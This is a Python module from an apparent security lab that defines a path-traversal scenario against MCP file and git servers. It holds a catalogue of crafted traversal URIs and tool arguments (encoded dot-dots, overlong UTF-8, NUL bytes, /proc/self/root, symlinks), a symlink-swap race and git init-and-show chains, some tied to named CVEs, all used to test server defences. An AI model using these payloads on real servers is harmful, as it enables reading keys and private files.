"""``path-traversal``: a crafted URI or path reads what lies outside the workspace."""

from __future__ import annotations

import json
import os
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

from doorward.lab import git_repository, oracles
from doorward.lab.scenario import (
    BEHIND,
    BenignTwinBrokenError,
    Era,
    Example,
    Harm,
    Protection,
    Scenario,
    Target,
    Trace,
    Variant,
)
from doorward.lab.targets import published, python, script

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from doorward.lab.stage import Stage

PUBLISHED = "server-filesystem-2025.3.28"
NOTE = "minutes.txt"

SWAPPED = "swapped"
DRAFT, SECRET = "draft.txt", "../outside/secret.txt"
BUNDLED, BUNDLES = 1000, 20
"""So often one bundle means the link, which takes the server tens of milliseconds, and so many bundles at most. Bare,
the first is enough nearly always; of 400 races on two cores that four others want, one took six.
"""
SWAP_SECONDS = 0.001
"""Whoever waits a moment gets his turn while the server works, also where there is one core for both."""


def furnish(work: Path, greeting: str) -> None:
    """A note to read, and two links as a cloned repository may bring them."""
    (work / NOTE).write_text(f"minutes of the meeting: {greeting}\n", encoding="utf-8")
    (work / "latest.txt").symlink_to(work.parent / "outside" / "secret.txt")
    (work / "shared").symlink_to(work.parent / "outside")


def _calls(id: str, title: str, *calls: tuple[str, dict[str, Any]]) -> Variant:
    return Variant(id, title, [{"method": "tools/call", "params": {"name": n, "arguments": a}} for n, a in calls])


def _command(stage: Stage) -> tuple[str, ...] | None:
    argv = published.argv(PUBLISHED)
    return None if argv is None else (*argv, str(stage.layout.work))


async def _read(stage: Stage) -> str:
    got: Any = await stage.client.call_tool("read_file", {"path": str(stage.layout.work / NOTE)})
    if stage.greeting not in got.content[0].text:
        raise BenignTwinBrokenError("read_file did not give the note")
    return f"read_file gave {NOTE}"


def _resource(id: str, title: str, uri: str, remote_internals: tuple[Protection, ...] = ()) -> Variant:
    return Variant(id, title, {"method": "resources/read", "params": {"uri": uri}}, remote_internals)


def _call(id: str, title: str, tool: str, path: str, remote_internals: tuple[Protection, ...] = ()) -> Variant:
    payload = {"method": "tools/call", "params": {"name": tool, "arguments": {"path": path}}}
    return Variant(id, title, payload, remote_internals)


FILESYSTEM = Target(
    id="filesystem",
    title="@modelcontextprotocol/server-filesystem 2025.3.28",
    command=_command,
    furnish=furnish,
    configuration="""\
[servers.filesystem.tools.read_file.arguments.path]
path_below = "{work}"
[servers.filesystem.tools.get_file_info.arguments.path]
path_below = "{work}"
""",
    tools=("read_file", "get_file_info"),
    eras=(Era.LEGACY,),
    missing=lambda: published.missing(PUBLISHED),
    over_http=False,
    benign=_read,
)

NOTES = Target(
    id="workspace-notes",
    title="a naive server of ours for the notes in a folder",
    command=lambda stage: (*python(), script("workspace_notes"), str(stage.layout.work)),
    furnish=furnish,
    configuration="""\
[servers.workspace-notes.tools.open_note.arguments.path]
path_below = "{work}"
""",
    tools=("open_note", "bundle_notes"),
)


@contextmanager
def _swapping(link: Path) -> Iterator[None]:
    """Somebody else who may write in the workspace lets ``link`` lead to the note and to the secret, in turn."""
    over, fresh = threading.Event(), link.with_name(f".{link.name}")

    def swap() -> None:
        while not over.is_set():
            for where in (NOTE, SECRET):
                fresh.symlink_to(where)
                os.replace(fresh, link)
                over.wait(SWAP_SECONDS)

    link.symlink_to(NOTE)
    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        yield
    finally:
        over.set()
        swapper.join()
        link.unlink()


async def _race(stage: Stage) -> None:
    """Ask for what the link leads to, until it was the secret: whoever is after one knows it when he reads it."""
    asked = {"name": "bundle_notes", "arguments": {"names": [DRAFT] * BUNDLED}}
    with _swapping(stage.layout.work / DRAFT):
        for _ in range(BUNDLES):
            answer = await stage.ask("tools/call", asked)
            if answer is None or oracles.arrived([answer], stage.canary):
                return


class PathTraversal(Scenario):
    """Path traversal via a crafted ``resources/read`` URI.

    Goal:
        Read a file that the server was never given, through a server that was given one folder.
    Attacker:
        A client, or whoever makes a user's client ask: a prompt, a document with a link, a cloned repository that
        brings a symbolic link, or a program of it that swaps one while the server looks.
    Steps:
        1. A secret lies beside the server's folder, behind a link in it, and in a sibling that shares its name's start.
        2. The attacker sends a URI or a path argument that means the secret, once for each way to write it. The lines
           are raw, since the URL types of clients would tidy them up.
        3. The server compares strings, decodes, and opens the file; or it fills what it got into a template and joins
           that to its folder.
        4. Or it looks where a link leads before it opens it, and in between the link comes to lead elsewhere.
    Impact:
        Disclosure of any file that the server's process may read: keys, tokens, other users' work.
    Remedy:
        Judge the path that would be opened (decoded, joined, links resolved) and not the string; confine the server so
        that the rest of the disk is unreadable whatever it opens.
    """

    id = "path-traversal"
    title = "path traversal via a crafted resources/read URI"
    attacker = "client"
    stride = "information disclosure"
    cwe = ("CWE-22", "CWE-59", "CWE-41")
    owasp = "MCP10:2025"
    controls = ("path-confinement", "known-resources", "argument-constraints")
    examples = (
        Example(
            id=PUBLISHED,
            title="CVE-2025-53110 (prefix match) and CVE-2025-53109 (symbolic link) as published",
            target=FILESYSTEM,
            variants=(
                _call("sibling-prefix", "a sibling that shares the prefix", "read_file", "{work}-evil/secret.txt"),
                _call("symlink", "a link in the workspace", "read_file", "{work}/latest.txt"),
            ),
        ),
        Example(
            id=git_repository.PUBLISHED,
            title="CVE-2025-68145 (any repository) and CVE-2025-68143 (any folder becomes one) as published",
            target=git_repository.GIT,
            variants=(
                _calls(
                    "other-repository",
                    "a repository that the server was not given",
                    ("git_show", {"repo_path": "{outside}/vault", "revision": "HEAD"}),
                ),
                _calls(
                    "init-anywhere",
                    "a folder that is made a repository, committed and read",
                    ("git_init", {"repo_path": "{outside}"}),
                    ("git_add", {"repo_path": "{outside}", "files": ["secret.txt"]}),
                    ("git_commit", {"repo_path": "{outside}", "message": "first"}),
                    ("git_show", {"repo_path": "{outside}", "revision": "HEAD"}),
                ),
            ),
        ),
        Example(
            id="workspace-notes",
            title="the document's example on a naive server",
            target=NOTES,
            variants=(
                _resource("dot-dot", "the document's own", "file://{work}/../outside/secret.txt"),
                _resource("percent", "percent-encoded", "file://{work}/%2e%2e/outside/secret.txt"),
                _resource("percent-slash", "percent-encoded slash", "file://{work}/..%2foutside%2fsecret.txt"),
                _resource("double-percent", "encoded twice", "file://{work}/%252e%252e%252foutside/secret.txt"),
                _resource("overlong", "overlong UTF-8", "file://{work}/%c0%ae%c0%ae/outside/secret.txt"),
                _resource("backslash", "back-slashed", "file://{work}/..\\outside\\secret.txt"),
                _resource("full-width", "Unicode normalisation", "file://{work}/\uff0e\uff0e/outside/secret.txt"),
                _resource("nul", "what looks like the name ends at NUL", "file://{work}/../outside/secret.txt%00.md"),
                _resource("host", "a host that is not this one", "file://files.example{work}/../outside/secret.txt"),
                _resource(
                    "proc-root",
                    "around through /proc",
                    "file://{work}" + "/.." * 12 + "/proc/self/root{outside}/secret.txt",
                ),
                _resource("sibling-prefix", "a sibling that shares the prefix", "file://{work}-evil/secret.txt"),
                _resource("symlink", "a link to a file", "file://{work}/latest.txt", BEHIND),
                _resource("symlinked-folder", "a link to a folder", "file://{work}/shared/secret.txt", BEHIND),
                _call("tool-dot-dot", "inside a tool argument", "open_note", "../outside/secret.txt"),
                _call(
                    "tool-sibling",
                    "a sibling inside a tool argument",
                    "open_note",
                    "{work}-evil/secret.txt",
                    (Protection.SHIPPED,),
                ),
                _call("tool-symlink", "a link inside a tool argument", "open_note", "latest.txt", BEHIND),
                _resource("template", "what a template is filled with climbs out", "notes://..%2Foutside%2Fsecret.txt"),
                _resource("template-root", "it begins at the root", "notes://{outside}/secret.txt"),
                Variant("swapped", "a link that changes while the server looks", SWAPPED, BEHIND),
            ),
        ),
    )

    async def attack(self, stage: Stage, variant: Variant) -> None:
        if variant.payload == SWAPPED:
            await _race(stage)
            return
        steps = variant.payload if isinstance(variant.payload, list) else [variant.payload]
        for step in stage.filled(steps):
            await stage.ask(step["method"], step["params"])

    def harmed(self, stage: Stage, _variant: Variant, trace: Trace, /) -> Harm | None:
        how = oracles.arrived(trace.lines, stage.canary)
        return Harm(f"the client got the content of a file outside the workspace: {how}") if how else None

    async def benign(self, stage: Stage) -> str:
        listed = await stage.client.list_resources()
        uri = next((r.uri for r in listed.resources if r.uri.endswith(NOTE)), "")
        read: Any = await stage.client.read_resource(uri)
        called: Any = await stage.client.call_tool("open_note", {"path": NOTE})
        templates = (await stage.client.list_resource_templates()).resource_templates
        by_name: Any = await stage.client.read_resource(templates[0].uri_template.replace("{name}", NOTE))
        bundle: Any = await stage.client.call_tool("bundle_notes", {"names": [NOTE, NOTE]})
        for answer in (*read.contents, *called.content, *by_name.contents, *bundle.content):
            if stage.greeting not in answer.text:
                raise BenignTwinBrokenError(f"the note did not arrive, but {json.dumps(answer.text)}")
        return f"resources/read gave {NOTE} by its path and by its name, open_note and bundle_notes gave it too"


SCENARIO = PathTraversal()
